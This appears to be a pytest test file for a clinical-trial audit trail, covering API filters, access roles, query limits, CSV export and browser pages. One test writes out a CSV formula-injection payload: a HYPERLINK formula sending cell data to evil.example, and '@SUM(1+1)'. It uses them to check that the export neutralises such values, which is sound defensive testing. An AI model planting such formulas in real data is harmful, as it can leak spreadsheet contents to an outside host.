"""The audit trail: JSON API with filters and capped pages, study-wide CSV, browser pages."""

import csv
import io
import re

import pytest
from django.test import Client

from tests.conftest import logged_in
from tests.export_data import add_participants, build_study_data, later_records
from trialsite.audit import audited_delete, audited_save
from trialsite.models import ExportLog

API = "/api/v1/audit-trail/"


@pytest.fixture
def data(coordinator, data_manager):
    built = build_study_data(coordinator)
    ae = built["headache"]
    ae.grade = 2
    audited_save(ae, user=data_manager, reason="Source document says grade 2")
    return built


def test_change_shows_old_and_new_with_user_and_reason(data, data_manager):
    body = logged_in(data_manager).get(API, {"model": "safety.adverseevent", "user": "dana"}).json()
    assert body["count"] == 1
    row = body["results"][0]
    assert row["history_type"] == "~" and row["user"] == "dana" and row["participant"] == "SCR-001"
    assert row["reason"] == "Source document says grade 2"
    assert row["changes"] == [{"field": "grade", "old": 1, "new": 2}]
    assert row["history_date"].endswith("Z")


def test_participant_filter(data, data_manager):
    client = logged_in(data_manager)
    rows = client.get(API, {"participant": "SCR-002", "page_size": 500}).json()["results"]
    assert {r["model"] for r in rows} == {"subjects.participant", "subjects.screening"}
    empty = client.get(API, {"participant": "SCR-999"}).json()
    assert {key: value for key, value in empty.items() if key != "chain_head"} == {
        "count": 0,
        "next": None,
        "previous": None,
        "results": [],
    }


def test_date_filter_and_bad_input(data, data_manager):
    client = logged_in(data_manager)
    assert client.get(API, {"date_from": "2000-01-01", "date_to": "2000-01-02"}).json()["count"] == 0
    bad = [{"date_from": "yesterday"}, {"model": "auth.user"}, {"date_from": "2024-02-02", "date_to": "2024-02-01"}]
    for params in [*bad, {"page": "0"}]:
        assert client.get(API, params).status_code == 400, params
    past_the_end = client.get(API, {"page": "999"})  # an empty page, like every list endpoint
    assert past_the_end.status_code == 200 and past_the_end.json()["results"] == []


def test_huge_page_size_is_capped(data, data_manager):
    body = logged_in(data_manager).get(API, {"page_size": 100000}).json()
    assert body["count"] > 20 and len(body["results"]) == body["count"]  # all fit: cap is 500
    assert len(logged_in(data_manager).get(API, {"page_size": 3}).json()["results"]) == 3


def test_query_count_does_not_grow_with_rows(coordinator, data_manager, django_assert_max_num_queries):
    client = logged_in(data_manager)
    counts = []
    for n in (2, 4):
        add_participants(coordinator, n)
        client.get("/")  # steady state: the signed-in user cached under the accounts' version
        with django_assert_max_num_queries(15) as captured:
            assert client.get(API, {"page_size": 500}).status_code == 200
        counts.append(len(captured))
    assert counts[0] == counts[1]


def test_pages_take_15_queries_whatever_models_appear(data, coordinator, data_manager, django_assert_max_num_queries):
    """The history rows of every model on a page come in one query, the names of linked records in one
    more."""
    later_records(data["p1"], coordinator)
    infusion = data["infusion"]
    infusion.volume_ml += 1
    audited_save(infusion, user=data_manager, reason="Pump log says 101 mL")
    client = logged_in(data_manager)
    client.get("/")
    with django_assert_max_num_queries(15):
        trail = client.get("/audit-trail/").content.decode()
    with django_assert_max_num_queries(15):
        history = client.get("/audit-trail/participants/SCR-001/").content.decode()
    models = {
        "subjects.participant",
        "subjects.screening",
        "subjects.visit",
        "dosing.vitalsigns",
        "dosing.infusion",
        "assessments.pasiassessment",
        "safety.adverseevent",
        "labs.labresult",
        "medications.concomitantmedication",
        "deviations.protocoldeviation",
    }
    for page in (trail, history):
        assert models <= set(re.findall(r'data-record="([a-z.]+)#', page))
    assert "Volume ml</span>: 100.0 → 101.0" in trail and "Infusion 1 of SCR-001" in trail


def test_roles(data, personas):
    assert Client().get(API).status_code == 401
    for name in ("coordinator", "investigator", "dmc_reviewer", "api_client_user", "outsider"):
        assert logged_in(personas[name]).get(API).status_code == 403, name
    for name in ("data_manager", "administrator"):
        assert logged_in(personas[name]).get(API).status_code == 200, name


def test_study_wide_csv(data, data_manager):
    response = logged_in(data_manager).get("/api/v1/audit-trail.csv")
    assert response.status_code == 200 and response.streaming
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    change = [r for r in rows if r["model"] == "safety.adverseevent" and r["history_type"] == "changed"]
    assert [(r["field"], r["old"], r["new"], r["user"], r["reason"]) for r in change] == [
        ("grade", "1", "2", "dana", "Source document says grade 2")
    ]
    assert ExportLog.objects.filter(export="audit-trail.csv").count() == 1
    assert logged_in(data_manager).get("/api/v1/exports/audit-trail.csv").status_code == 200


def test_history_types_are_words_in_the_csv_and_on_the_page_codes_in_the_api(data, data_manager, coordinator):
    participant = data["p2"]
    audited_delete(participant.screening, user=coordinator, reason="Entered for the wrong participant")
    client = logged_in(data_manager)
    response = client.get("/api/v1/audit-trail.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    *trail, head = rows
    assert {row["history_type"] for row in trail} == {"created", "changed", "deleted"}
    assert head["model"] == "audit_chain_head" and head["history_type"] == ""
    deleted = [row for row in trail if row["history_type"] == "deleted"]
    assert [(row["model"], row["participant"], row["reason"]) for row in deleted] == [
        ("subjects.screening", participant.screening_number, "Entered for the wrong participant")
    ]
    page = client.get("/audit-trail/", {"participant": participant.screening_number}).content.decode()
    assert all(f'<span class="badge">{word}</span>' in page for word in ("created", "deleted"))
    codes = {row["history_type"] for row in client.get(API, {"page_size": 500}).json()["results"]}
    assert codes == {"+", "~", "-"}


def test_browser_audit_trail_page(data, data_manager, coordinator):
    page = logged_in(data_manager).get("/audit-trail/", {"model": "safety.adverseevent"})
    assert page.status_code == 200
    html = page.content.decode()
    assert "Source document says grade 2" in html and "grade" in html and "→" in html
    assert logged_in(coordinator).get("/audit-trail/").status_code == 403
    assert Client().get("/audit-trail/").status_code == 302


def test_browser_participant_history_oldest_first(data, data_manager, coordinator):
    page = logged_in(data_manager).get("/audit-trail/participants/SCR-001/")
    assert page.status_code == 200
    html = page.content.decode()
    assert html.index("Initial entry") < html.index("Source document says grade 2")
    assert logged_in(data_manager).get("/audit-trail/participants/SCR-999/").status_code == 404
    assert logged_in(coordinator).get("/audit-trail/participants/SCR-001/").status_code == 403


def test_exports_page_per_role(data, personas):
    dm_page = logged_in(personas["data_manager"]).get("/exports/").content.decode()
    assert "vs.csv" in dm_page and "odm.xml" in dm_page and "audit-trail" in dm_page
    dmc_page = logged_in(personas["dmc_reviewer"]).get("/exports/").content.decode()
    assert "ae.csv" in dmc_page and "vs.csv" not in dmc_page and "odm.xml" not in dmc_page
    assert logged_in(personas["coordinator"]).get("/exports/").status_code == 403


def test_browser_pages_link_older_and_newer_without_a_total(
    data, data_manager, monkeypatch, django_assert_max_num_queries
):
    from exports import views as data_views

    monkeypatch.setattr(data_views, "PAGE_SIZE", 2)
    client = logged_in(data_manager)
    api_count = client.get(API, {"model": "safety.adverseevent"}).json()["count"]
    assert api_count == 3  # two AEs entered, one changed
    first = client.get("/audit-trail/", {"model": "safety.adverseevent"}).content.decode()
    assert "Older →" in first and "← Newer" not in first and "Page 1" in first
    assert "Source document says grade 2" in first  # newest first
    with django_assert_max_num_queries(15):
        last = client.get("/audit-trail/", {"model": "safety.adverseevent", "page": "2"}).content.decode()
    assert "← Newer" in last and "Older →" not in last and "Page 2" in last
    assert last.count("<tr>") == 1 + 1  # header row and the one oldest record
    assert "Source document says grade 2" not in last


def test_audit_trail_csv_neutralises_formulas_sdtm_keeps_values(coordinator, data_manager, study):
    """Text a spreadsheet would run as a formula (=, +, -, @, tab, CR first) gets a leading ' in the
    audit-trail CSV; plain numbers stay numbers; the SDTM AE dataset keeps the value exactly."""
    import csv as csv_module
    import io
    from datetime import date

    from safety.services import adverse_event_record
    from tests import factories

    participant = factories.enrolled_participant(coordinator, day1=date(2024, 1, 10))
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    adverse_event = adverse_event_record(
        participant=participant, user=coordinator, term=formula, onset_date=date(2024, 1, 12), end_date=None,
        ongoing=True, grade=1, serious=False, relationship="not_related", expected=True,
        action_taken="not_applicable", outcome="recovering",
    )  # fmt: skip
    from safety.services import adverse_event_update

    adverse_event_update(adverse_event=adverse_event, user=coordinator, reason="@SUM(1+1)", term="\tTab")
    client = logged_in(data_manager)
    response = client.get("/api/v1/audit-trail.csv")
    rows = list(csv_module.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    terms = {
        (row["old"], row["new"]) for row in rows if row["model"] == "safety.adverseevent" and row["field"] == "term"
    }
    assert ("", "'" + formula) in terms and ("'" + formula, "'\tTab") in terms
    assert "'@SUM(1+1)" in {row["reason"] for row in rows}
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in cells)
    # Only the entered text was neutralised: none of the CSV's own values needed it.
    assert {cell for cell in cells if cell.startswith("'")} == {"'" + formula, "'\tTab", "'@SUM(1+1)"}
    sdtm = client.get("/api/v1/exports/sdtm/ae.csv")
    ae_rows = list(csv_module.DictReader(io.StringIO(b"".join(sdtm.streaming_content).decode())))
    assert ae_rows[0]["AETERM"] == "\tTab"  # SDTM keeps values exactly


def test_spreadsheet_safe_cells():
    from exports.audit import spreadsheet_safe

    assert [spreadsheet_safe(v) for v in ("=1+1", "+1", "-1+2", "@A1", "\tx", "\rx", "-12.5", "-3", "SCR-001", "")] == [
        "'=1+1", "'+1", "'-1+2", "'@A1", "'\tx", "'\rx", "-12.5", "-3", "SCR-001", ""
    ]  # fmt: skip
